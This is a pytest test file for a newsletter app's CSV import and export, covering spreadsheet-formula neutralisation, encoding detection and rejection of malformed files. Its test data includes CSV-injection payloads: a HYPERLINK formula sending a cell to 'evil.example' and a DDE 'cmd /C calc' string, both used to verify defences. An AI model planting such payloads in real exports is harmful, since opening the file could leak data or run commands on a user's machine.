"""CSV in and out. Exports neutralise spreadsheet formulas (a leading apostrophe) and the import reads them
back, so export -> import -> export gives the same file. Imports read UTF-8 (with or without BOM), UTF-16
and UTF-32 with a BOM, and Windows-1252/Latin-1, saying which; a NUL character or an oversized field stops
the import with its line number before anything is written."""

from __future__ import annotations

import codecs
import csv
import io
import itertools
from datetime import UTC, datetime

import pytest
from sqlalchemy import func, select

from publisher.csvfiles import FORMULA_STARTS, neutralise, read_table, restore, write_rows
from publisher.errors import InvalidInputError
from publisher.models import Subscriber, Subscription
from publisher.services.importer import import_csv
from publisher.services.subscribers import export_csv, subscribe, unsubscribe
from tests.support.consent import make_list

ALPHABET = ["'", "=", "+", "-", "@", "\t", "\r", "a", " ", "\n"]


def _values():
    """Every string of up to three characters from an alphabet of formula starters, apostrophes and text,
    each alone and followed by more text: 2,222 values."""
    for size in range(4):
        for chars in itertools.product(ALPHABET, repeat=size):
            yield "".join(chars)
            yield "".join(chars) + "SUM(A1:A9)"


def test_no_written_cell_starts_a_formula_and_every_cell_reads_back_the_same():
    values = list(_values())
    out = io.StringIO()
    write_rows(out, [["value"]] + [[v] for v in values])
    cells = [row[0] for row in csv.reader(io.StringIO(out.getvalue(), newline=""))][1:]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    assert [restore(c) for c in cells] == values
    table = read_table(out.getvalue().encode(), "values.csv")
    assert [row["value"] for _, row in table.rows] == values
    assert neutralise("=1+1") == "'=1+1" and neutralise("'Tis") == "'Tis" and neutralise("Ann") == "Ann"


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1 555 0100", "-Ann-", "@SUM(A1:A9)",
                 "'=already quoted", "''+twice", "'Tis the season", "=cmd|' /C calc'!A0", "Plain Name"]


def test_export_import_export_gives_the_same_file(db, tmp_path):
    news = make_list(db)
    for n, name in enumerate(FORMULA_NAMES):
        sub = subscribe(db, news, email=f"p{n}@example.com", name=name, confirmed=n % 3 != 1, source=f"=src{n}",
                        consent_at=datetime(2021, 3, 4, 5, 6, n, tzinfo=UTC), consent_ip="203.0.113.9")
        if n % 3 == 2:
            unsubscribe(db, subscriber_id=sub.subscriber_id, list_id=news.id)
        sub.cadence, sub.timezone = ("weekly", "Asia/Tokyo") if n % 2 else (None, None)
    for address in ("-dash@example.com", "+plus@example.com", "=equals@example.com"):
        subscribe(db, news, email=address, name="@" + address, confirmed=True)
    db.commit()
    first = io.StringIO()
    export_csv(db, news, first)
    cells = [c for row in csv.reader(io.StringIO(first.getvalue(), newline="")) for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]
    (tmp_path / "export.csv").write_text(first.getvalue(), encoding="utf-8", newline="")
    copy = make_list(db, name="copy")
    report = import_csv(db, copy, tmp_path / "export.csv")
    db.commit()
    assert report.errors == [] and report.added == len(FORMULA_NAMES) + 3
    second = io.StringIO()
    export_csv(db, copy, second)
    assert second.getvalue() == first.getvalue()
    names = set(db.scalars(select(Subscriber.name)))
    assert set(FORMULA_NAMES) <= names  # in the database, the names are as given: no apostrophes


TEXT = "email,name\r\nzoe@example.com,Zoë Müller\r\nfr@example.com,François Ødegård\r\nal@example.com,Ålborg Ñandú\r\n"


@pytest.mark.parametrize(("data", "encoding"), [
    (TEXT.encode("utf-8"), "UTF-8"),
    (TEXT.replace("\r\n", "\n").encode("utf-8"), "UTF-8"),
    (codecs.BOM_UTF8 + TEXT.encode("utf-8"), "UTF-8 with a byte-order mark"),
    (codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"), "UTF-16 LE"),
    (codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"), "UTF-16 BE"),
    (codecs.BOM_UTF32_LE + TEXT.encode("utf-32-le"), "UTF-32 LE"),
    (codecs.BOM_UTF32_BE + TEXT.encode("utf-32-be"), "UTF-32 BE"),
    (TEXT.encode("cp1252"), "Windows-1252"),
    (TEXT.encode("latin-1"), "Windows-1252"),
    (TEXT.replace("\r\n", "\r").encode("latin-1"), "Windows-1252"),  # old Mac line ends
], ids=["utf8", "utf8-lf", "utf8-bom", "utf16le", "utf16be", "utf32le", "utf32be", "cp1252", "latin1", "latin1-cr"])
def test_files_in_every_common_encoding_are_read_and_the_report_says_which(db, tmp_path, data, encoding):
    news = make_list(db)
    (tmp_path / "subs.csv").write_bytes(data)
    report = import_csv(db, news, tmp_path / "subs.csv")
    db.commit()
    assert report.encoding.startswith(encoding) and report.errors == [] and report.added == 3
    names = dict(db.execute(select(Subscriber.email, Subscriber.name)).all())
    assert names == {"zoe@example.com": "Zoë Müller", "fr@example.com": "François Ødegård",
                     "al@example.com": "Ålborg Ñandú"}


def test_euro_signs_and_curly_quotes_of_windows_1252_are_read_as_such(db, tmp_path):
    news = make_list(db)
    (tmp_path / "w.csv").write_bytes("email,name\nq@example.com,“Bob” Dupont – 5€\n".encode("cp1252"))
    assert "Windows-1252" in import_csv(db, news, tmp_path / "w.csv").encoding
    assert db.scalar(select(Subscriber.name)) == "“Bob” Dupont – 5€"


def _refused(db, tmp_path, data: bytes) -> str:
    news = make_list(db)
    (tmp_path / "bad.csv").write_bytes(data)
    with pytest.raises(InvalidInputError) as caught:
        import_csv(db, news, tmp_path / "bad.csv")
    db.rollback()
    assert db.scalar(select(func.count()).select_from(Subscription)) == 0  # nothing imported
    message = str(caught.value)
    assert "\n" not in message
    return message


@pytest.mark.parametrize("quoted", [True, False])
def test_an_oversized_field_stops_the_import_with_its_line(db, tmp_path, quoted):
    big = "x" * 200_000
    field = f'"{big}"' if quoted else big
    data = f"email,name\na@example.com,A\nb@example.com,B\nc@example.com,{field}\nd@example.com,D\n".encode()
    message = _refused(db, tmp_path, data)
    assert "bad.csv: line 4" in message and "longer than" in message


def test_an_unclosed_quote_that_swallows_the_file_is_named_by_its_line(db, tmp_path):
    rows = "".join(f"p{i}@example.com,P{i}\n" for i in range(10_000))
    message = _refused(db, tmp_path, f'email,name\na@example.com,"Ann\n{rows}'.encode())
    assert "longer than" in message and "unclosed quote" in message


@pytest.mark.parametrize("where", ["name", "email", "own line", "header"])
def test_nul_characters_stop_the_import_with_their_line(db, tmp_path, where):
    lines = ["email,name", "a@example.com,A", "b@example.com,B", "c@example.com,C"]
    line = {"name": 3, "email": 3, "own line": 3, "header": 1}[where]
    if where == "own line":
        lines.insert(2, "\x00\x00")
    elif where == "header":
        lines[0] = "em\x00ail,name"
    else:
        lines[2] = "b@example.com,B\x00ob" if where == "name" else "b\x00@example.com,B"
    message = _refused(db, tmp_path, "\n".join(lines).encode())
    assert f"line {line} contains a NUL" in message


def test_utf16_without_a_byte_order_mark_is_refused_with_a_hint(db, tmp_path):
    message = _refused(db, tmp_path, TEXT.encode("utf-16-le"))
    assert "NUL" in message and "UTF-16 without a byte-order mark" in message


def test_bytes_that_are_no_text_in_any_encoding_we_read_are_refused_with_their_line(db, tmp_path):
    message = _refused(db, tmp_path, b"email,name\na@example.com,A\nb@example.com,B\x81\x8d\n")
    assert "line 3" in message and "neither UTF-8 nor Windows-1252" in message


def test_a_broken_utf16_file_is_refused(db, tmp_path):
    message = _refused(db, tmp_path, codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le")[:-1] + b"\x00\xd8")
    assert "UTF-16 LE" in message and "not valid" in message
